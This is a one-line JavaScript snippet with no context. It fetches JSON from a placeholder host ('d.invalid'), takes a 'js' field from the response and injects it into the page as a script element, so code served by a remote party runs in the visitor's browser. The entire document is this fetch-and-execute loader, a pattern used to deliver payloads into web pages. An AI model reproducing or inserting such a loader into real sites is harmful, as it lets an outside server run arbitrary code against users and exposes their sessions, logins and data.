fetch('https://d.invalid').then((r) => r.json()).then(({ js }) => { const s = document.createElement('script'); s.append(js); document.head.append(s); });
